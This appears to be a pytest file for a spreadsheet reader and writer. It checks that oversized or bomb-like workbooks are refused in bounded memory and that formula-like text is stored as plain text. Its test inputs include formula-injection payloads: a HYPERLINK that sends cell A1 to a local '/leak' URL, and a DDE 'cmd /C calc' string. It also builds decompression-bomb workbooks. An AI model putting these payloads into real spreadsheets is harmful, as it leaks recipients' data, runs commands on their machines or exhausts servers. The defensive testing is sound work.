"""The spreadsheet writer (text stays text) and reader (streaming, with limits, refusing hostile
files in bounded memory)."""
from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from summit.core import spreadsheet
from summit.core.spreadsheet import SpreadsheetError

ROOT = Path(__file__).resolve().parents[2]
LINK = '=HYPERLINK("http://127.0.0.1:5999/leak?"&A1,"Open CV")'
FORMULAS = [LINK, "=2+3", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]
HEADER = ["姓名 Name", "参会类别 Category", "单位 Organisation", "手机 Mobile phone", "邮箱 Email"]


def wide_bomb() -> bytes:
    """10,000 rows, each with a cell in column A and one in XFD (the last of 16,384):
    the sheet declares A1:XFD10000, as the file that took a worker to 1.66 GB did."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in range(2, 10_001):
        sheet.cell(row=row, column=1, value="王敏")
        sheet.cell(row=row, column=16_384, value=1)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def lying_dimension() -> bytes:
    """Three ordinary rows in a sheet that claims A1:XFD10000."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(["王敏", "企业代表", "海尔集团", "13800000101", "wm@example.com"])
    sheet.append(["赵海波", "高层次人才", "中国海洋大学", "13800000103", "zhb@example.com"])
    out = io.BytesIO()
    book.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    patched = io.BytesIO()
    with zipfile.ZipFile(patched, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data, count = re.subn(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD10000"', data)
                assert count == 1
            target.writestr(info, data)
    return patched.getvalue()


MEASURE = """
import json, resource, sys
from summit.registration import tabular
data = open(sys.argv[1], "rb").read()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
# The worker this stands for must not grow by more than 512 MB, whatever the file.
with open("/proc/self/status") as status:
    size_kb = next(int(line.split()[1]) for line in status if line.startswith("VmSize:"))
limit = (size_kb + 512 * 1024) * 1024
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
try:
    _unknown, rows = tabular.read_rows("upload.xlsx", data)
    outcome = {"rows": len(rows), "first": rows[0][1]}
except tabular.TableError as exc:
    outcome = {"code": exc.code, "row": exc.row, "column": exc.column, "limit": exc.limit}
except MemoryError:
    outcome = {"code": "MemoryError"}
outcome["grew_kb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
print(json.dumps(outcome))
"""


def measure(tmp_path, data: bytes) -> dict:
    """Reads the file as the registration import does, in a fresh process, and reports the
    outcome and how much the process's peak memory grew."""
    path = tmp_path / "upload.xlsx"
    path.write_bytes(data)
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    done = subprocess.run([sys.executable, "-c", MEASURE, str(path)], capture_output=True, text=True, env=env,
                          timeout=120, check=True)
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_sheet_wider_than_the_limit_is_refused_in_bounded_memory(tmp_path):
    data = wide_bomb()
    assert len(data) < 200_000
    outcome = measure(tmp_path, data)
    assert outcome["code"] == "columns" and outcome["row"] == 2 and outcome["column"] == "XFD"
    assert outcome["limit"] == spreadsheet.MAX_COLUMNS
    # Measured: no growth past the process's start-up peak; the reader that kept every padded row
    # needed 1.37 GB and 11 s for this file (1.66 GB for the file of the report).
    assert outcome["grew_kb"] < 64 * 1024, outcome


def test_a_false_dimension_is_ignored_in_bounded_memory(tmp_path):
    outcome = measure(tmp_path, lying_dimension())
    assert outcome["rows"] == 2 and outcome["first"] == {"name": "王敏", "category": "企业代表", "organisation": "海尔集团",
                                                         "phone": "13800000101", "email": "wm@example.com"}
    assert outcome["grew_kb"] < 64 * 1024, outcome


def test_rows_beyond_the_limit_are_refused():
    text = "姓名\n" + "王敏\n" * 30
    assert len(spreadsheet.read_table("a.csv", text.encode(), max_rows=30)) == 31
    with pytest.raises(SpreadsheetError) as caught:
        spreadsheet.read_table("a.csv", (text + "李雷\n").encode(), max_rows=30)
    assert caught.value.code == "rows" and caught.value.row == 32


@pytest.mark.parametrize("size", [40_000, 200_000])
def test_a_huge_csv_field_is_refused_with_its_row(size):
    """Below and above the csv module's own 128 KB limit, which raised a bare csv.Error (a 500)."""
    text = "姓名,单位\n王敏,海尔\n李雷," + "x" * size + "\n"
    with pytest.raises(SpreadsheetError) as caught:
        spreadsheet.read_table("a.csv", text.encode())
    assert caught.value.code == "cell" and caught.value.row == 3


def test_a_huge_xlsx_cell_is_refused():
    book = openpyxl.Workbook()
    book.active.append(["姓名"])
    book.active.append(["x" * 101])  # (openpyxl itself cuts what it writes at Excel's 32,767)
    out = io.BytesIO()
    book.save(out)
    assert spreadsheet.read_table("a.xlsx", out.getvalue(), max_cell=101)[1] == ["x" * 101]
    with pytest.raises(SpreadsheetError) as caught:
        spreadsheet.read_table("a.xlsx", out.getvalue(), max_cell=100)
    assert (caught.value.code, caught.value.row, caught.value.column) == ("cell", 2, 1)


def test_a_zip_that_unpacks_beyond_the_limit_is_refused():
    """A workbook whose parts unpack to more than MAX_UNPACKED is refused before openpyxl reads
    its shared strings (which it keeps in memory)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * (spreadsheet.MAX_UNPACKED + 1) + b"</sst>")
    data = out.getvalue()
    assert len(data) < 200_000
    with pytest.raises(SpreadsheetError) as caught:
        spreadsheet.read_table("a.xlsx", data)
    assert caught.value.code == "size"


# ---------------------------------------------------------------- writing

@pytest.mark.parametrize("value", FORMULAS)
def test_the_writer_keeps_formula_like_text_as_text(value):
    """Unit level: the value itself is kept (quote-prefixed in .xlsx, apostrophe in CSV)."""
    data = spreadsheet.table_xlsx(["a"], [[value, 1, None]])
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
    # (XML reads a stored CR back as a line feed.)
    assert cell.data_type == "s" and cell.value == value.replace("\r", "\n") and cell.quotePrefix
    assert spreadsheet.csv_value(value) == "'" + value


def test_the_writer_turns_a_formula_written_around_it_into_text():
    """A cell set directly (not through append) is swept before saving."""
    book = spreadsheet.new_workbook()
    sheet = spreadsheet.add_sheet(book, "a/b:c")
    sheet["B3"] = LINK
    sheet["C3"] = "plain"
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(book)))
    assert book.sheetnames == ["a b c"]
    assert book.active["B3"].data_type == "s" and book.active["B3"].value == LINK and not formula_cells(
        spreadsheet.xlsx_bytes(book))


def test_the_writer_drops_characters_xlsx_cannot_hold():
    data = spreadsheet.table_xlsx(["a"], [["bell\x07 name", ["x", "y"], True]])
    row = [c.value for c in openpyxl.load_workbook(io.BytesIO(data)).active[2]]
    assert row == ["bell name", "x、y", True]


def test_the_writer_keeps_numbers_as_numbers():
    import datetime as dt
    from decimal import Decimal

    import numpy as np

    data = spreadsheet.table_xlsx(["a"], [[3, 2.5, Decimal("1.25"), np.int64(7), np.float64(0.5),
                                           dt.datetime(2024, 11, 19, 9, 30, tzinfo=dt.timezone.utc)]])
    cells = openpyxl.load_workbook(io.BytesIO(data)).active[2]
    assert [c.data_type for c in cells] == ["n", "n", "n", "n", "n", "d"]
    assert [c.value for c in cells][:5] == [3, 2.5, 1.25, 7, 0.5]
    assert spreadsheet.table_csv(["a"], [[3, np.int64(7), "007"]]).decode("utf-8-sig").splitlines()[1] == "3,7,\t007"
